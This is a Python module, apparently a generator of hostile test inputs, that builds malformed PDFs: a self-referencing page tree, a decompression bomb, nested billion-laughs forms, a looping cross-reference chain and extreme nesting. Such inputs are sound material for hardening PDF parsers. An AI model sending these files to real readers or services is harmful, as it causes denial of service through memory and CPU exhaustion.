"""PDF files that are made to do harm, each of a few kilobytes."""

import zlib


def assemble(objects: list[bytes], trailer: bytes = b"", count: int = 0) -> bytes:
    """A PDF of numbered objects, the first of which is the catalogue; its table is left out."""
    body = b"%PDF-1.7\n"
    starts = []
    for number, content in enumerate(objects, 1):
        starts.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % start for start in starts)
    size = count or len(objects) + 1
    end = b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n"
    return body + table + end % (size, trailer, len(body))


def stream(data: bytes, head: bytes = b"", packed: int = 0) -> bytes:
    """A stream of data that is packed already so many times."""
    filters = b"/Filter [%b] " % (b"/FlateDecode " * packed)
    return b"<< %b%b/Length %d >>\nstream\n%b\nendstream" % (filters, head, len(data), data)


def blanks(megabytes: int) -> bytes:
    """So many blanks, packed twice; the same packed stretch again and again."""
    packer = zlib.compressobj(9)
    first, again = (
        packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
    )
    return zlib.compress(first + again * megabytes + packer.flush(), 9)


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
    b" /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> >>"
)
WORDS = b"BT /F 12 Tf 72 700 Td (Some words to be read on this page) Tj ET"


def page_loop(count: int) -> bytes:
    """A tree of pages whose branches are itself."""
    pages = b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count %d >>" % count
    return assemble([CATALOGUE, pages])


def many_pages() -> bytes:
    """One page that says it is a hundred million."""
    pages = PAGES.replace(b"/Count 1", b"/Count 100000000")
    return assemble([CATALOGUE, pages, PAGE, stream(WORDS), FONT])


def bomb() -> bytes:
    """A page of 2 GB of blanks."""
    return assemble([CATALOGUE, PAGES, PAGE, stream(blanks(2000), packed=2), FONT])


def laughs() -> bytes:
    """Forms that hold ten times the next one, nine deep: a thousand million words."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F 5 0 R >>"
    forms = [
        stream(b"/X Do " * 10, form + b" /XObject << /X %d 0 R >> >>" % (number + 1))
        for number in range(6, 15)
    ]
    last = stream(WORDS, form + b" >>")
    return assemble([CATALOGUE, PAGES, PAGE, stream(b"/X Do"), FONT, *forms, last])


def chain() -> bytes:
    """A table of contents that sends on to itself."""
    data = assemble([CATALOGUE, PAGES, PAGE, stream(WORDS), FONT], b"/Prev 0000000000")
    at = data.rindex(b"xref\n0 ")
    return data.replace(b"/Prev 0000000000", b"/Prev %010d" % at)


def nested() -> bytes:
    """Arrays two million deep."""
    return assemble([CATALOGUE, PAGES, PAGE, stream(WORDS), FONT, b"[" * 2_000_000])


def many_words() -> bytes:
    """Thirty million letters on one page."""
    return assemble(
        [CATALOGUE, PAGES, PAGE, stream(zlib.compress(WORDS * 1_000_000), packed=1), FONT]
    )
